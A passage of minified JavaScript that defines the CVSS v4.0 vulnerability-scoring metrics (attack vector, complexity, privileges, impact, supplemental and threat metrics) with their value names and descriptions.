System."},N:{shortName:"N",name:"Negligible",abbreviatedName:"Negl.",jsonSchemaName:"NEGLIGIBLE",description:"There is no loss of confidentiality within the Subsequent System or all confidentiality impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED=[o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.N],o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},S:{shortName:"S",name:"Safety",jsonSchemaName:"SAFETY",description:'The exploited vulnerability will result in integrity impacts that could cause serious injury or worse (categories of "Marginal" or worse as described in IEC 61508) to a human actor or participant.'},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of integrity, or a complete loss of protection. For example, the attacker is able to modify any/all files protected by the Subsequent System. Alternatively, only some files can be modified, but malicious modification would present a direct, serious consequence to the Subsequent System."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Modification of data is possible, but the attacker does not have control over the consequence of a modification, or the amount of modification is limited. The data modification does not have a direct, serious impact to the Subsequent System."},N:{shortName:"N",name:"Negligible",abbreviatedName:"Negl.",jsonSchemaName:"NEGLIGIBLE",description:"There is no loss of integrity within the Subsequent System or all integrity impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED=[o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.S,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.N],o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},S:{shortName:"S",name:"Safety",jsonSchemaName:"SAFETY",description:'The exploited vulnerability will result in availability impacts that could cause serious injury or worse (categories of "Marginal" or worse as described in IEC 61508) to a human actor or participant.'},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of availability, resulting in the attacker being able to fully deny access to resources in the Subsequent System; this loss is either sustained (while the attacker continues to deliver the attack) or persistent (the condition persists even after the attack has completed). Alternatively, the attacker has the ability to deny some availability, but the loss of availability presents a direct, serious consequence to the Subsequent System (e.g., the attacker cannot disrupt existing connections, but can prevent new connections; the attacker can repeatedly exploit a vulnerability that, in each instance of a successful attack, leaks a only small amount of memory, but after repeated exploitation causes a service to become completely unavailable)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Performance is reduced or there are interruptions in resource availability. Even if repeated exploitation of the vulnerability is possible, the attacker does not have the ability to completely deny service to legitimate users. The resources in the Subsequent System are either partially available all of the time, or fully available only some of the time, but overall there is no direct, serious consequence to the Subsequent System."},N:{shortName:"N",name:"Negligible",abbreviatedName:"Negl.",jsonSchemaName:"NEGLIGIBLE",description:"There is no impact to availability within the Subsequent System or all availability impact is constrained to the Vulnerable System."}},o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED=[o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.X,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.S,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.H,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.L,o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.N],o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"Loss of Confidentiality is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Confidentiality is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Loss of Confidentiality is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},o.REQUIREMENT_CONFIDENTIALITY_MODIFIED=[o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.X,o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.H,o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.M,o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.L],o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"Loss of Integrity is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Integrity is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Loss of Integrity is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},o.REQUIREMENT_INTEGRITY_MODIFIED=[o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.X,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.H,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.M,o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.L],o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"Loss of Availability is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Availability is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"Loss of Availability is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},o.REQUIREMENT_AVAILABILITY_MODIFIED=[o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.X,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.H,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.M,o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.L],o.AV_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Not Defined"},N:{shortName:"N",name:"Network",jsonSchemaName:"NETWORK",description:"The vulnerable system is bound to the network stack and the set of possible attackers extends beyond the other options listed below, up to and including the entire Internet. Such a vulnerability is often termed “remotely exploitable” and can be thought of as an attack being exploitable at the protocol level one or more network hops away (e.g., across one or more routers). An example of a network attack is an attacker causing a denial of service (DoS) by sending a specially crafted TCP packet across a wide area network."},A:{shortName:"A",name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT",description:"The vulnerable system is bound to a protocol stack, but the attack is limited at the protocol level to a logically adjacent topology. This can mean an attack must be launched from the same shared proximity (e.g., Bluetooth, NFC, or IEEE 802.11) or logical network (e.g., local IP subnet), or from within a secure or otherwise limited administrative domain (e.g., MPLS, secure VPN within an administrative network zone). One example of an Adjacent attack would be an ARP (IPv4) or neighbor discovery (IPv6) flood leading to a denial of service on the local LAN segment."},L:{shortName:"L",name:"Local",jsonSchemaName:"LOCAL",description:"The vulnerable system is not bound to the network stack and the attacker’s path is via read/write/execute capabilities. Either: the attacker exploits the vulnerability by accessing the target system locally (e.g., keyboard, console), or through terminal emulation (e.g., SSH); or the attacker relies on User Interaction by another person to perform actions required to exploit the vulnerability (e.g., using social engineering techniques to trick a legitimate user into opening a malicious document)."},P:{shortName:"P",name:"Physical",abbreviatedName:"Phys.",jsonSchemaName:"PHYSICAL",description:"The attack requires the attacker to physically touch or manipulate the vulnerable system. Physical interaction may be brief (e.g., evil maid attack) or persistent. An example of such an attack is a cold boot attack in which an attacker gains access to disk encryption keys after physically accessing the target system. Other examples include peripheral attacks via FireWire/USB Direct Memory Access (DMA)."}},o.AV={name:"Attack Vector",shortName:"AV",subCategory:"Exploitability Metrics",description:"This metric reflects the context by which vulnerability exploitation is possible.",values:[o.AV_VALUES.X,o.AV_VALUES.N,o.AV_VALUES.A,o.AV_VALUES.L,o.AV_VALUES.P],worseCaseValue:o.AV_VALUES.N},o.AC_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Not Defined"},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"The attacker must take no measurable action to exploit the vulnerability. The attack requires no target-specific circumvention to exploit the vulnerability. An attacker can expect repeatable success against the vulnerable system."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"successful attack depends on the evasion or circumvention of security-enhancing techniques in place that would otherwise hinder the attack. The attacker must have additional methods available to bypass security measures in place."}},o.AC={name:"Attack Complexity",shortName:"AC",subCategory:"Exploitability Metrics",description:"This metric captures measurable actions that the attacker must take to evade or circumvent built-in security-enhancing conditions in order to obtain a working exploit.",values:[o.AC_VALUES.X,o.AC_VALUES.L,o.AC_VALUES.H],worseCaseValue:o.AC_VALUES.L},o.AT_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Not Defined"},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"The successful attack does not depend on the deployment and execution conditions of the vulnerable system. The attacker can expect to be able to reach the vulnerability and execute the exploit under all or most instances of the vulnerability."},P:{shortName:"P",name:"Present",jsonSchemaName:"PRESENT",description:"The successful attack depends on the presence of specific deployment and execution conditions of the vulnerable system that enable the attack. The successfulness of the attack is conditioned on execution conditions that are not under full control of the attacker. The attack may need to be launched multiple times against a single target before being successful. Network injection. The attacker must inject themselves into the logical network path between the target and the resource requested by the victim (e.g. vulnerabilities requiring an on-path attacker)."}},o.AT={name:"Attack Requirements",shortName:"AT",subCategory:"Exploitability Metrics",description:"This metric captures the prerequisite deployment and execution conditions or variables of the vulnerable system that enable the attack.",values:[o.AT_VALUES.X,o.AT_VALUES.N,o.AT_VALUES.P],worseCaseValue:o.AT_VALUES.N},o.PR_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Not Defined"},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"The attacker is unauthenticated prior to attack, and therefore does not require any access to settings or files of the vulnerable system to carry out an attack."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"The attacker requires privileges that provide basic capabilities that are typically limited to settings and resources owned by a single low-privileged user. Alternatively, an attacker with Low privileges has the ability to access only non-sensitive resources."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"The attacker requires privileges that provide significant (e.g., administrative) control over the vulnerable system allowing full access to the vulnerable system’s settings and files."}},o.PR={name:"Privileges Required",shortName:"PR",subCategory:"Exploitability Metrics",description:"This metric describes the level of privileges an attacker must possess prior to successfully exploiting the vulnerability.",values:[o.PR_VALUES.X,o.PR_VALUES.N,o.PR_VALUES.L,o.PR_VALUES.H],worseCaseValue:o.PR_VALUES.N},o.UI_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Not Defined"},N:{shortName:"N",name:"None",jsonSchemaName:"NONE",description:"The vulnerable system can be exploited without interaction from any human user, other than the attacker. Examples include: a remote attacker is able to send packets to a target system a locally authenticated attacker executes code to elevate privileges"},P:{shortName:"P",name:"Passive",jsonSchemaName:"PASSIVE",description:"Successful exploitation of this vulnerability requires limited interaction by the targeted user with the vulnerable system and the attacker’s payload. These interactions would be considered involuntary and do not require that the user actively subvert protections built into the vulnerable system."},A:{shortName:"A",name:"Active",jsonSchemaName:"ACTIVE",description:"Successful exploitation of this vulnerability requires a targeted user to perform specific, conscious interactions with the vulnerable system and the attacker’s payload, or the user’s interactions would actively subvert protection mechanisms which would lead to exploitation of the vulnerability."}},o.UI={name:"User Interaction",shortName:"UI",subCategory:"Exploitability Metrics",description:"This metric captures the requirement for a human user, other than the attacker, to participate in the successful compromise of the vulnerable system.",values:[o.UI_VALUES.X,o.UI_VALUES.N,o.UI_VALUES.P,o.UI_VALUES.A],worseCaseValue:o.UI_VALUES.N},o.VC={name:"Confidentiality",shortName:"VC",subCategory:"Vulnerable System Impact",description:"This metric measures the impact to the confidentiality of the information managed by the Vulnerable System due to a successfully exploited vulnerability.",values:o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H},o.VI={name:"Integrity",shortName:"VI",subCategory:"Vulnerable System Impact",description:"This metric measures the impact to the integrity of the Vulnerable System due to a successfully exploited vulnerability.",values:o.VULNERABLE_SYSTEM_INTEGRITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.H},o.VA={name:"Availability",shortName:"VA",subCategory:"Vulnerable System Impact",description:"This metric measures the impact to the availability of the Vulnerable System due to a successfully exploited vulnerability.",values:o.VULNERABLE_SYSTEM_AVAILABILITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.H},o.SC={name:"Confidentiality",shortName:"SC",subCategory:"Subsequent System Impact",description:"This metric measures the impact to the confidentiality of information managed by a system other than the Vulnerable System as a consequence of a successfully exploited vulnerability.",values:o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE,worseCaseValue:o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H},o.SI={name:"Integrity",shortName:"SI",subCategory:"Subsequent System Impact",description:"This metric measures the impact to the integrity of a system other than the Vulnerable System as a consequence of a successfully exploited vulnerability.",values:o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE,worseCaseValue:o.SUBSEQUENT_SYSTEM_INTEGRITY_BASE_VALUES.H},o.SA={name:"Availability",shortName:"SA",subCategory:"Subsequent System Impact",description:"This metric measures the impact to the availability of a system other than the Vulnerable System as a consequence of a successfully exploited vulnerability.",values:o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE,worseCaseValue:o.SUBSEQUENT_SYSTEM_AVAILABILITY_BASE_VALUES.H},o.S_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},N:{shortName:"N",name:"Negligible",abbreviatedName:"Negl.",jsonSchemaName:"NEGLIGIBLE",description:'Consequences of the vulnerability meet definition of IEC 61508 consequence categories of "marginal," "critical," or "catastrophic."'},P:{shortName:"P",name:"Present",jsonSchemaName:"PRESENT",description:'Consequences of the vulnerability meet definition of IEC 61508 consequence category "negligible."'}},o.S={name:"Safety",shortName:"S",description:"This supplemental metric captures Safety impacts of a vulnerability when the affected system has an intended use or fitness of purpose aligned to safety.",values:[o.S_VALUES.X,o.S_VALUES.N,o.S_VALUES.P],worseCaseValue:o.S_VALUES.P},o.AU_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},N:{shortName:"N",name:"No",jsonSchemaName:"NO",description:"Attackers cannot reliably automate all 4 steps of the kill chain for this vulnerability for some reason. These steps are reconnaissance, weaponization, delivery, and exploitation."},Y:{shortName:"Y",name:"Yes",jsonSchemaName:"YES",description:"Attackers can reliably automate all 4 steps of the kill chain. These steps are reconnaissance, weaponization, delivery, and exploitation (e.g., the vulnerability is “wormable”)."}},o.AU={name:"Automatable",shortName:"AU",description:"This supplemental metric captures whether an attacker can reliably automate exploitation of this vulnerability across multiple targets, based on the first four steps of the kill chain (reconnaissance, weaponization, delivery, and exploitation).",values:[o.AU_VALUES.X,o.AU_VALUES.N,o.AU_VALUES.Y],worseCaseValue:o.AU_VALUES.Y},o.R_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},A:{shortName:"A",name:"Automatic",abbreviatedName:"Automat.",jsonSchemaName:"AUTOMATIC",description:"The system recovers services automatically after an attack has been performed."},U:{shortName:"U",name:"User",jsonSchemaName:"USER",description:"The system requires manual intervention by the user to recover services, after an attack has been performed."},I:{shortName:"I",name:"Irrecoverable",abbreviatedName:"Irrecov.",jsonSchemaName:"IRRECOVERABLE",description:"The system services are irrecoverable by the user, after an attack has been performed."}},o.R={name:"Recovery",shortName:"R",description:"This supplemental metric describes the resilience of a system to recover services, in terms of performance and availability, after an attack has been performed.",values:[o.R_VALUES.X,o.R_VALUES.A,o.R_VALUES.U,o.R_VALUES.I],worseCaseValue:o.R_VALUES.I},o.V_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},D:{shortName:"D",name:"Diffuse",jsonSchemaName:"DIFFUSE",description:"The vulnerable system has limited resources. That is, the resources that the attacker will gain control over with a single exploitation event are relatively small. An example of Diffuse (think: limited) Value Density would be an attack on a single email client vulnerability."},C:{shortName:"C",name:"Concentrated",abbreviatedName:"Concentr.",jsonSchemaName:"CONCENTRATED",description:"The vulnerable system is rich in resources. Heuristically, such systems are often the direct responsibility of “system operators” rather than users. An example of Concentrated (think: broad) Value Density would be an attack on a central email server."}},o.V={name:"Value Density",shortName:"V",description:"This supplemental metric describes the resources that the attacker will gain control over with a single exploitation event.",values:[o.V_VALUES.X,o.V_VALUES.D,o.V_VALUES.C],worseCaseValue:o.V_VALUES.C},o.RE_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},L:{shortName:"L",name:"Low",jsonSchemaName:"LOW",description:"The effort required to respond to a vulnerability is low/trivial. Examples include: communication on better documentation, configuration workarounds, or guidance from the vendor that does not require an immediate update, upgrade, or replacement by the consuming entity, such as firewall filter configuration."},M:{shortName:"M",name:"Moderate",abbreviatedName:"Moder.",jsonSchemaName:"MODERATE",description:"The actions required to respond to a vulnerability require some effort on behalf of the consumer and could cause minimal service impact to implement. Examples include: simple remote update, disabling of a subsystem, or a low-touch software upgrade such as a driver update."},H:{shortName:"H",name:"High",jsonSchemaName:"HIGH",description:"The actions required to respond to a vulnerability are significant and/or difficult, and may possibly lead to an extended, scheduled service impact. This would need to be considered for scheduling purposes including honoring any embargo on deployment of the selected response. Alternatively, response to the vulnerability in the field is not possible remotely. The only resolution to the vulnerability involves physical replacement (e.g. units deployed would have to be recalled for a depot level repair or replacement)."}},o.RE={name:"Vulnerability Response Effort",shortName:"RE",description:"This supplemental metric provides supplemental information on how difficult it is for consumers to provide an initial response to the impact of a vulnerability for deployed products and services in their infrastructure.",values:[o.RE_VALUES.X,o.RE_VALUES.L,o.RE_VALUES.M,o.RE_VALUES.H],worseCaseValue:o.RE_VALUES.H},o.U_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"The metric has not been evaluated."},Clear:{shortName:"Clear",name:"Clear",jsonSchemaName:"CLEAR",description:"Provider has assessed the impact of this vulnerability as having the highest urgency."},Green:{shortName:"Green",name:"Green",jsonSchemaName:"GREEN",description:"Provider has assessed the impact of this vulnerability as having a moderate urgency."},Amber:{shortName:"Amber",name:"Amber",jsonSchemaName:"AMBER",description:"Provider has assessed the impact of this vulnerability as having a reduced urgency."},Red:{shortName:"Red",name:"Red",jsonSchemaName:"RED",description:"Provider has assessed the impact of this vulnerability as having no urgency (Informational)."}},o.U={name:"Provider Urgency",shortName:"U",description:"This supplemental metric provides a standardized way for the system provider to convey a qualitative urgency rating (Clear, Green, Amber, Red) for the vulnerability.",values:[o.U_VALUES.X,o.U_VALUES.Clear,o.U_VALUES.Green,o.U_VALUES.Amber,o.U_VALUES.Red],worseCaseValue:o.U_VALUES.Red},o.MAV={name:"Modified Attack Vector",shortName:"MAV",subCategory:"Exploitability Metrics",description:"Overrides the Base Attack Vector metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.AV,values:o.AV.values,worseCaseValue:o.AV_VALUES.N},o.MAC={name:"Modified Attack Complexity",shortName:"MAC",subCategory:"Exploitability Metrics",description:"Overrides the Base Attack Complexity metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.AC,values:o.AC.values,worseCaseValue:o.AC_VALUES.L},o.MAT={name:"Modified Attack Requirements",shortName:"MAT",subCategory:"Exploitability Metrics",description:"Overrides the Base Attack Requirements metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.AT,values:o.AT.values,worseCaseValue:o.AT_VALUES.P},o.MPR={name:"Modified Privileges Required",shortName:"MPR",subCategory:"Exploitability Metrics",description:"Overrides the Base Privileges Required metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.PR,values:o.PR.values,worseCaseValue:o.PR_VALUES.N},o.MUI={name:"Modified User Interaction",shortName:"MUI",subCategory:"Exploitability Metrics",description:"Overrides the Base User Interaction metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.UI,values:o.UI.values,worseCaseValue:o.UI_VALUES.N},o.MVC={name:"Modified Confidentiality",shortName:"MVC",subCategory:"Vulnerable System Impact",description:"Overrides the Base Vulnerable System Confidentiality metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.VC,values:o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_CONFIDENTIALITY_BASE_VALUES.H},o.MVI={name:"Modified Integrity",shortName:"MVI",subCategory:"Vulnerable System Impact",description:"Overrides the Base Vulnerable System Integrity metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.VI,values:o.VULNERABLE_SYSTEM_INTEGRITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_INTEGRITY_BASE_VALUES.H},o.MVA={name:"Modified Availability",shortName:"MVA",subCategory:"Vulnerable System Impact",description:"Overrides the Base Vulnerable System Availability metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.VA,values:o.VULNERABLE_SYSTEM_AVAILABILITY_BASE,worseCaseValue:o.VULNERABLE_SYSTEM_AVAILABILITY_BASE_VALUES.H},o.MSC={name:"Modified Confidentiality",shortName:"MSC",subCategory:"Subsequent System Impact",description:"Overrides the Base Subsequent System Confidentiality metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.SC,values:o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED,worseCaseValue:o.SUBSEQUENT_SYSTEM_CONFIDENTIALITY_MODIFIED_VALUES.H},o.MSI={name:"Modified Integrity",shortName:"MSI",subCategory:"Subsequent System Impact",description:"Overrides the Base Subsequent System Integrity metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.SI,baseMetricEquivalentMapper:e=>e===o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.S?o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.H:e,values:o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED,worseCaseValue:o.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.H},o.MSA={name:"Modified Availability",shortName:"MSA",subCategory:"Subsequent System Impact",description:"Overrides the Base Subsequent System Availability metric to reflect specific characteristics of the analyst's environment.",baseMetricEquivalent:o.SA,baseMetricEquivalentMapper:e=>e===o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.S?o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.H:e,values:o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED,worseCaseValue:o.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.H},o.CR={name:"Confidentiality Requirement",shortName:"CR",description:"This metric enables the consumer to customize the assessment depending on the importance of Confidentiality to the affected IT asset within the analyst's organization.",values:o.REQUIREMENT_CONFIDENTIALITY_MODIFIED,worseCaseValue:o.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.H},o.IR={name:"Integrity Requirement",shortName:"IR",description:"This metric enables the consumer to customize the assessment depending on the importance of Integrity to the affected IT asset within the analyst's organization.",values:o.REQUIREMENT_INTEGRITY_MODIFIED,worseCaseValue:o.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.H},o.AR={name:"Availability Requirement",shortName:"AR",description:"This metric enables the consumer to customize the assessment depending on the importance of Availability to the affected IT asset within the analyst's organization.",values:o.REQUIREMENT_AVAILABILITY_MODIFIED,worseCaseValue:o.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.H},o.E_VALUES={X:{shortName:"X",name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Reliable threat intelligence is not available to determine Exploit Maturity characteristics. This is the default value and is equivalent to Attacked (A) for the purposes of the calculation of the score by assuming the worst case."},A:{shortName:"A",name:"Attacked",jsonSchemaName:"ATTACKED",description:"Based on available threat intelligence either of the following must apply: Attacks targeting this vulnerability (attempted or successful) have been reported Solutions to simplify attempts to exploit the vulnerability are publicly or privately available (such as exploit toolkits)"},P:{shortName:"P",name:"POC",jsonSchemaName:"PROOF_OF_CONCEPT",description:"Based on available threat intelligence each of the following must apply: Proof-of-concept exploit code is publicly available No knowledge of reported attempts to exploit this vulnerability No knowledge of publicly available solutions used to simplify attempts to exploit the vulnerability (i.e., the “Attacked” value does not apply)"},U:{shortName:"U",name:"Unreported",jsonSchemaName:"UNREPORTED",description:"Based on available threat intelligence each of the following must apply: No knowledge of publicly available proof-of-concept exploit code No knowledge of reported attempts to exploit this vulnerability No knowledge of publicly available solutions used to simplify attempts to exploit the vulnerability (i.e., neither the “POC” nor “Attacked” values apply)"}},o.E={name:"Exploit Maturity",shortName:"E",description:"This metric measures the likelihood of the vulnerability being attacked, and is based on the current state of exploit techniques, exploit code availability, or active in-the-wild exploitation.",values:[o.E_VALUES.X,o.E_VALUES.A,o.E_VALUES.P,o.E_VALUES.U],worseCaseValue:o.E_VALUES.A},o.BASE_CATEGORY={name:"base",description:"Base Metrics"},o.SUPPLEMENTAL_CATEGORY={name:"supplemental",description:"Supplemental Metrics"},o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY={name:"environmental-base",description:"Environmental Metrics (Modified Base)"},o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY={name:"environmental-security-requirement",description:"Environmental Metrics (Security Requirements)"},o.THREAT_CATEGORY={name:"threat",description:"Threat Metrics"},o.BASE_CATEGORY_VALUES=[o.AV,o.AC,o.AT,o.PR,o.UI,o.VC,o.VI,o.VA,o.SC,o.SI,o.SA],o.SUPPLEMENTAL_CATEGORY_VALUES=[o.S,o.AU,o.R,o.V,o.RE,o.U],o.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY_VALUES=[o.MAV,o.MAC,o.MAT,o.MPR,o.MUI,o.MVC,o.MVI,o.MVA,o.MSC,o.MSI,o.MSA],o.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY_VALUES=[o.CR,o.IR,o.AR],o.THREAT_CATEGORY_VALUES=[o.E],o.REGISTERED_COMPONENTS_EDITOR_ORDER=new Map,o.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER=new 